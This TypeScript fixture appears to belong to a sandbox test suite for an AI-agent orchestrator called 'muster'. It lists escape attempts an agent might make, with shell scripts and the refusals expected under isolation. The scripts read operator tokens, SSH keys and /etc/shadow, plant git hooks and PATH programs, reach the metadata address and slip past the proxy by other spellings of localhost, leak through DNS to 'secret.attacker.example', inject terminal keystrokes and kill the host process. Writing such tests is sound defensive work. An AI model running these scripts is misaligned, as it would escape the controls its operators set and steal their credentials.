/** What an agent tries from inside its pane, and how it shows that it has failed. */
export interface Attack {
  readonly name: string;
  /** A shell script. `$STATE` is the state folder, `$REPOSITORY` the repository, `$OTHER` another agent’s worktree, `$OWN` muster. */
  readonly script: string;
  /** What the kernel or the filter answers an isolated agent. */
  readonly refusal: RegExp;
  /** What an agent without isolation is answered; in words, why that cannot be tried. */
  readonly success: RegExp | string;
}

const gone = /No such file or directory|nonexistent/;
const readOnly = /Read-only file system/;
const noFilter = 'there is no filter';
const byNetwork = 'depends on the network of the machine';
/** The start of a script that makes a system call of the number on x86_64 or on aarch64, and says `done` or why not. */
const call = (x86: number, arm: number, ...args: number[]): string =>
  `n=${x86}; [ "$(uname -m)" != aarch64 ] || n=${arm}; perl -e 'print syscall(shift, ${[...args, 0, 0].join(', ')}) < 0 ? "$!\n" : "done\n"' $n`;
const refusedCall = /^(?:Function not implemented|Operation not permitted)$/m;
const asRoot = 'only root can, and it would change the machine';

/** Without isolation the agent runs as the person, and nothing refuses what the person may do. */
export const attacks: readonly Attack[] = [
  { name: 'reads the operator’s token', script: 'cat "$STATE"/operator.token', refusal: gone, success: /^\S{20,}\s*$/ },
  { name: 'reads the database', script: 'head -c 15 "$STATE"/muster.db', refusal: gone, success: /^SQLite format 3/ },
  { name: 'reads the keys of the bus', script: 'cat "$STATE"/bus.keys', refusal: gone, success: /\S{20}/ },
  {
    name: 'reads the metrics of muster, which name hosts and count agents',
    script: 'curl -sS -m 5 --noproxy "*" "$SERVICE_BASE_URL"/metrics | head -c 300',
    refusal: /UNAUTHENTICATED|unauthenticated/,
    success: /^# HELP/,
  },
  {
    name: 'plants rules that change the next launch',
    script: 'echo x > "$STATE"/rules/planted && echo done',
    refusal: gone,
    success: /^done/,
  },
  { name: 'reads another agent’s worktree', script: 'cat "$OTHER"/a.txt', refusal: gone, success: /^a$/m },
  { name: 'reads the person’s SSH keys', script: 'cat "$HOME"/.ssh/id_test', refusal: gone, success: /^key/ },
  {
    name: 'reads a token in the person’s settings of git',
    script: 'git config user.name; git config --get-regexp "url.*" || echo none',
    refusal: /^Ada\nnone/,
    success: /ghp_/,
  },
  {
    name: 'reads the passwords of the system',
    // A container shows those of its image.
    script: '[ -n "$MUSTER_CONTAINER" ] && echo those of the image || head -c 5 /etc/shadow',
    refusal: /^those of the image$|Permission denied/m,
    success: 'only root can',
  },
  {
    name: 'finds an open file of muster',
    script:
      'ls -l /proc/self/fd | sed -n "s/.* -> //p" | grep -v -e ^pipe: -e ^/dev/ -e ^/proc/ -e /out-; echo "end: $?"',
    refusal: /^end: 1$/m,
    success: 'there is none',
  },
  {
    name: 'reaches an abstract socket of the person',
    script: 'socat /dev/null ABSTRACT-CONNECT:"$ABSTRACT" && echo reached',
    refusal: /Connection refused/,
    success: /^reached/,
  },
  {
    name: 'reaches the keys that the kernel keeps for the person',
    // KEYCTL_GET_KEYRING_ID of KEY_SPEC_USER_KEYRING, which is made.
    script: call(250, 219, 0, -4, 1),
    refusal: refusedCall,
    success: /^done/,
  },
  {
    name: 'reads what keys there are',
    script: 'wc -c < /proc/keys',
    refusal: /^0$|Permission denied/m,
    success: /^[1-9]/,
  },
  {
    name: 'makes calls that no filter sees, by a ring of them',
    script: call(426, 426, -1),
    refusal: refusedCall,
    success: 'depends on the settings of the kernel',
  },
  {
    name: 'reaches the machine around a virtual machine',
    // A service of this machine at the local address of that family.
    script: 'socat -T 2 /dev/null SOCKET-CONNECT:40:0:x0000010000000100000000000000 && echo reached',
    refusal: /Address family not supported|Function not implemented/,
    success: 'depends on the machine',
  },
  {
    name: 'opens a socket of a family that agents have no use for',
    // AF_PACKET, which every kernel has: without the filter, the kernel answers that it is not permitted.
    script: call(41, 198, 17, 3),
    refusal: /^(?:Address family not supported|Function not implemented)/m,
    success: 'only root can',
  },
  {
    name: 'types into its terminal, for who has it next',
    // A container has a terminal of its own, which ends with it.
    script: `[ -n "$MUSTER_CONTAINER" ] && echo its own || perl -e 'open($t, "+<", "/dev/tty") or die; $key = "#"; print ioctl($t, 0x5412, $key) ? "done\n" : "$!\n"'`,
    refusal: /^(?:its own|Operation not permitted)$/m,
    success: 'depends on the settings of the kernel',
  },
  {
    name: 'finds a socket of the system',
    script: 'find /run /etc -type s ! -path "/run/muster/*" | grep . || echo none',
    refusal: /^none/m,
    success: 'depends on the services of the machine',
  },
  {
    name: 'changes who may use a device of the host',
    script: 'chmod 0666 /dev/null && echo done',
    refusal: /Read-only file system|Operation not permitted|No such file|not found/,
    success: 'only root can',
  },
  {
    name: 'reaches private and metadata addresses through the filter',
    script:
      'for host in 10.0.0.1 192.168.0.1 169.254.169.254 [fd00:ec2::254] [::ffff:127.0.0.1] 0.0.0.0; do curl -sS -m 5 --noproxy "" -x "$HTTPS_PROXY" "https://$host:$OTHER_PORT/"; done',
    refusal: /(?:response 403[\s\S]*){6}/,
    success: noFilter,
  },
  {
    name: 'reaches the service on the loopback address of IPv6',
    script: 'socat /dev/null TCP6:[::1]:"$OTHER_PORT",connect-timeout=3 && echo reached',
    refusal: /Connection refused|Cannot assign|unreachable/,
    success: 'the service listens only on 127.0.0.1',
  },
  {
    name: 'adds a worktree to the repository',
    script: 'git worktree add -q --detach "$HOME"/other && git worktree remove --force "$HOME"/other && echo done',
    refusal: readOnly,
    success: /^done/m,
  },
  {
    name: 'stashes where others find it',
    script: 'echo more >> a.txt; git stash && git stash drop -q && echo done; git checkout -q a.txt',
    refusal: /Read-only file system|Cannot save/,
    success: /^done/m,
  },
  {
    name: 'reads a login beside installed programs',
    // A sandbox shows the programs alone; a container shows neither.
    script: 'ls -d "$HOME"/.cargo/bin; wc -c < "$HOME"/.cargo/credentials.toml',
    refusal: /credentials.*No such file/,
    success: /^16$/m,
  },
  {
    name: 'reads the history of the checkout that muster runs from',
    script: '{ cat "$OWN"/.git/config; cat "$OWN"/.git; } 2>/dev/null | grep . || echo nothing',
    refusal: /^nothing/m,
    success: 'depends on how muster was installed',
  },
  {
    name: 'reads the environment of another process',
    script: 'cat /proc/"$HOST_PID"/environ | head -c 2000',
    refusal: gone,
    success: /PATH=/,
  },
  {
    name: 'types into another tmux server',
    script: 'tmux -u -S "$TMUX_SOCKET" send-keys "# typed" && echo done',
    refusal: /No such file or directory|no server running|error connecting/,
    success: /^done/,
  },
  {
    name: 'reaches the bus',
    script: 'socat /dev/null TCP4:127.0.0.1:"$BUS_PORT" && echo reached',
    refusal: /Connection refused/,
    success: /^reached/,
  },
  {
    name: 'reaches a service on 127.0.0.1 that is not granted',
    script: 'socat /dev/null TCP4:127.0.0.1:"$OTHER_PORT" && echo reached',
    refusal: /Connection refused/,
    success: /^reached/,
  },
  {
    name: 'reaches the metadata address',
    script: 'socat /dev/null TCP4:169.254.169.254:80,connect-timeout=3',
    refusal: /Network is unreachable/,
    success: byNetwork,
  },
  {
    name: 'reaches an address past the filter',
    script: 'socat /dev/null TCP4:192.0.2.1:443,connect-timeout=3',
    refusal: /Network is unreachable/,
    success: byNetwork,
  },
  {
    name: 'reaches a refused name through the filter',
    script: 'curl -sS -m 5 https://refused.example/',
    refusal: /CONNECT tunnel failed, response 403/,
    success: noFilter,
  },
  {
    name: 'reaches 127.0.0.1 through the filter by another spelling',
    script:
      'for host in 127.1 0x7f000001 [::1] localhost; do curl -sS -m 5 --noproxy "" -x "$HTTPS_PROXY" "https://$host:$OTHER_PORT/"; done',
    refusal: /(?:response 403[\s\S]*){4}/,
    success: noFilter,
  },
  {
    name: 'sends a name to the DNS of the network',
    script: 'getent hosts secret.attacker.example || echo "no name: $?"',
    refusal: /no name: 2/,
    success: byNetwork,
  },
  {
    name: 'plants a git hook',
    script: 'echo x > "$REPOSITORY"/.git/hooks/post-checkout && echo done',
    refusal: readOnly,
    success: /^done/,
  },
  {
    name: 'sets fsmonitor in the shared configuration',
    script: 'git config core.fsmonitor /tmp/x && git config --unset core.fsmonitor && echo done',
    refusal: readOnly,
    success: /^done/,
  },
  {
    name: 'leads its worktree to another repository',
    script: 'cp .git kept; rm -f .git; ls -d .git; echo x > .git && echo done; cp kept .git',
    refusal: /(?:Device or resource busy|Read-only file system)/,
    success: /^done/m,
  },
  {
    name: 'leads its worktree to another configuration',
    script:
      'd=$(git rev-parse --git-dir); cp "$d"/commondir kept; echo /tmp > "$d"/commondir && echo done; cp kept "$d"/commondir',
    refusal: readOnly,
    success: /^done/,
  },
  {
    name: 'moves another branch',
    script: 'git update-ref refs/heads/other HEAD && echo done',
    refusal: readOnly,
    success: /^done/,
  },
  {
    // The folder around what is shown of the repository is the agent's own: what it writes there is nowhere else.
    name: 'writes into another repository by a symbolic link',
    script: 'ln -sfn "$REPOSITORY" out && echo x > out/planted.txt; ls "$REPOSITORY"/a.txt && echo done',
    refusal: /No such file or directory/,
    success: /^done/m,
  },
  { name: 'changes the system', script: 'echo x > /etc/planted', refusal: readOnly, success: asRoot },
  {
    name: 'puts a program first on the PATH',
    script: 'echo x > "$STATE"/bin/planted && echo done',
    refusal: /Read-only file system|No such file or directory/,
    success: /^done/,
  },
  {
    name: 'mounts over what it sees',
    script: 'mount -t tmpfs none /etc',
    refusal: /permission denied|must be superuser|not permitted/i,
    success: asRoot,
  },
  {
    name: 'writes to a setting of the kernel',
    script: 'f=/proc/sys/kernel/core_pattern; now=$(cat $f); echo "$now" > $f',
    refusal: readOnly,
    success: asRoot,
  },
  {
    name: 'writes to a setting of the kernel as root of a namespace of its own',
    script:
      'unshare -Urm sh -c "mount -o remount,rw,bind /proc/sys; mount -t proc none /tmp; cat /proc/sys/kernel/core_pattern > /proc/sys/kernel/core_pattern"',
    refusal: /Read-only file system|Operation not permitted/,
    success: asRoot,
  },
  {
    name: 'tells the kernel what to do',
    script: 'test -w /proc/sysrq-trigger || { : > /proc/sysrq-trigger; }',
    refusal: /Read-only file system|nonexistent|Permission denied/,
    success: asRoot,
  },
  {
    // The last one, because it ends what it is tried on.
    name: 'ends muster',
    script: 'kill -KILL "$HOST_PID" && echo done',
    refusal: /No such process/,
    success: /^done/,
  },
];
